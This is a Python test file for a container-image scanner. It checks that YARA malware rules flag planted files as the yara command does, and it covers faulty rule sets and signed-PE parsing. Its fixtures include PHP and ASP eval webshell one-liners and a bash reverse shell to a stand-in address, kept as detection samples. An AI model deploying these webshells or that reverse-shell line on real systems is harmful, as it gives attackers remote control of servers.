#!/usr/bin/env python3
"""yara_test.py - rules find in images what the command yara finds by them in the same files"""
import os
import struct
import subprocess
import zipfile

from images import Dir, File, Image, Layer
from lib import BUILD, check, data, equal, main, need, run, scan, test

# In pieces, so that nothing takes this file for what it describes.
EICAR = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EIC" + "AR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*").encode()
CHOPPER = ("<?php @ev" + "al($_PO" + "ST['pass']);?>").encode()
SHELL = ("#!/bin/sh\nbash -i >& /dev/t" + "cp/192.0.2.1/4444 0>&1\n").encode()
FILES = {"srv/e.com": EICAR, "var/www/html/up.php": CHOPPER, "usr/bin/job": SHELL, "usr/bin/honest": b"#!/bin/sh\necho hello\n",
         "var/www/html/b.asp": ("<%ev" + "al request(\"pass\")%>").encode()}


def image(folder, files):
    entries = [File(path, content, mode=0o755) for path, content in files.items()]
    return Image([Layer([Dir("tmp"), *entries])]).write_oci(f"{folder}/image")


def found(result):
    """{(path, rule)} of what YARA rules found."""
    return {(finding["path"], finding["malware"]["rule"]) for finding in result.report["findings"]
            if finding["kind"] == "malware" and finding["malware"]["source"] == "yara"}


def malware(folder, files, *options):
    return scan(folder, "--scanners", "malware", *options, image(folder, files))


def by_yara(folder, rules, files):
    """The same of the command yara; RULES: {namespace: path}."""
    for path, content in files.items():
        os.makedirs(os.path.dirname(f"{folder}/root/{path}"), exist_ok=True)
        with open(f"{folder}/root/{path}", "wb") as file:
            file.write(content)
    variables = [word for name in ("filename", "filepath", "extension", "filetype", "owner") for word in ("-d", f"{name}=")]
    run("yarac", "-w", *variables, *[f"{name}:{path}" for name, path in rules.items()], f"{folder}/rules")
    said = subprocess.run(["yara", "-w", "-r", "-C", f"{folder}/rules", f"{folder}/root"], capture_output=True, text=True, check=True).stdout
    return {(path.split("/root/")[1], rule) for rule, path in (line.split(" ", 1) for line in said.splitlines())}


@test
def own_rules_find_what_the_command_yara_finds_by_them(folder):
    need("yara", "yarac")
    rules = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "malware-rules")
    want = by_yara(folder, {name: f"{rules}/{name}" for name in os.listdir(rules) if name.endswith(".yar")}, FILES)
    want = {pair for pair in want if not pair[1].startswith("is_")}
    result = malware(folder, FILES)
    equal(sorted(found(result)), sorted(want))
    equal(sorted({path for path, _ in want}), sorted(path for path in FILES if path != "usr/bin/honest"))


@test
def a_public_set_finds_what_the_command_yara_finds_by_it(folder):
    need("yara", "yarac")
    path = data("feeds/yara/signature-base-master.zip")
    with zipfile.ZipFile(path) as archive:
        archive.extractall(f"{folder}/set")
    texts = [f"{where}/{name}" for where, _, names in os.walk(f"{folder}/set") for name in names if name.endswith((".yar", ".yara"))]
    want = by_yara(folder, {f"n{number}": text for number, text in enumerate(sorted(texts))}, FILES)
    check(len(want) >= 8, f"yara finds only {want}")
    result = malware(folder, FILES, "--yara", path)
    own = found(malware(folder, FILES))
    equal(sorted(found(result) - own), sorted(want - own))
    equal([note for note in result.report["notes"] if ".zip" in note.get("path", "")], [])


@test
def plimsoll_in_an_image_rings_no_rule_of_its_own(folder):
    files = {}
    for path in ("bin/plimsoll", "libexec/plimsoll/plimsoll-read", "libexec/plimsoll/plimsoll-net"):
        with open(f"{BUILD}/{path}", "rb") as file:
            files[f"usr/{path}"] = file.read()
    equal(sorted(found(malware(folder, files))), [])


@test
def a_rule_of_the_user_is_told_with_its_author_licence_and_place(folder):
    with open(f"{folder}/user.yar", "w", encoding="utf-8") as file:
        file.write('rule Mine { meta: author = "Me" license = "MIT" reference = "https://e.example" family = "Thing" score = 80 '
                   'strings: $a = "hello" condition: $a }\nrule faulty { condition: nothing }\n')
    result = malware(folder, FILES, "--yara", f"{folder}/user.yar")
    finding, = [one for one in result.report["findings"] if one["kind"] == "malware" and one["malware"]["rule"] == "Mine"]
    told = finding["malware"]
    equal((finding["path"], finding["rating"]["value"] if isinstance(finding["rating"], dict) else finding["rating"]), ("usr/bin/honest", "high"))
    equal([told[key] for key in ("author", "licence", "reference", "name", "facts")],
          ["Me", "MIT", "https://e.example", "Thing", "$a at 0xf"])
    equal(os.path.basename(told["rules"]), "user.yar")
    check(any("line 2: rule faulty is left out: undefined identifier" in note["text"] for note in result.report["notes"]),
          f"no note of it: {result.report['notes']}")


@test
def rules_that_cannot_be_read_let_no_image_pass(folder):
    honest = {"usr/bin/honest": FILES["usr/bin/honest"]}
    with zipfile.ZipFile(f"{folder}/whole.zip", "w") as archive:
        archive.writestr("set/a.yar", "rule a { condition: false }\n")
    with open(f"{folder}/whole.zip", "rb") as file:
        content = file.read()
    texts = {"cut.zip": (content[:-30], "--yara", "not read to its end"), "compiled.yac": (b"YARA\0\1\2", "--yara", "it is no text"),
             "page.hdb": (b"<html>\nnot found\n", "--signatures", "no line of it can be used")}
    whole = malware(folder, honest, "--yara", f"{folder}/whole.zip").report
    for name, (text, option, words) in texts.items():
        with open(f"{folder}/{name}", "wb") as file:
            file.write(text)
        report = malware(folder, honest, option, f"{folder}/{name}").report
        equal((whole["verdict"]["kind"], report["verdict"]["kind"]), ("warn", "incomplete"))
        check(any(words in note["text"] and note["path"].endswith(name) for note in report["notes"]), f"{name}: {report['notes']}")


def signed_program(folder):
    """The smallest PE that has a signature: it is of other bytes, but its dates are read."""
    certificate = ["-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=test", "-keyout", f"{folder}/key", "-out", f"{folder}/pem"]
    subprocess.run(["openssl", "req", *certificate], check=True, capture_output=True)
    signature = subprocess.run(["openssl", "smime", "-sign", "-signer", f"{folder}/pem", "-inkey", f"{folder}/key", "-outform", "DER", "-nodetach"],
                               input=b"x", check=True, capture_output=True).stdout
    program = bytearray(1024)
    program[0:2], program[0x3c:0x40], program[0x80:0x84] = b"MZ", struct.pack("<I", 0x80), b"PE\0\0"
    struct.pack_into("<HH", program, 0x84, 0x14c, 1)
    struct.pack_into("<HHH", program, 0x94, 224, 0, 0x10b)
    struct.pack_into("<I", program, 0x98 + 92, 16)
    struct.pack_into("<II", program, 0x98 + 96 + 32, len(program), 8 + len(signature))
    return bytes(program) + struct.pack("<IHH", 8 + len(signature), 0x200, 2) + signature


@test
def dates_of_a_signature_are_read_in_the_jail(folder):
    need("openssl")
    with open(f"{folder}/signed.yar", "w", encoding="ascii") as file:
        file.write('import "pe"\nrule Signed_Once { condition: pe.number_of_signatures == 1 and pe.signatures[0].not_after > 1700000000 }\n')
    result = malware(folder, {"opt/a.exe": signed_program(folder)}, "--yara", f"{folder}/signed.yar")
    check(("opt/a.exe", "Signed_Once") in found(result), f"found {found(result)}")
    equal([note["text"] for note in result.report["notes"] if note["kind"] == "incomplete"], [])


main()
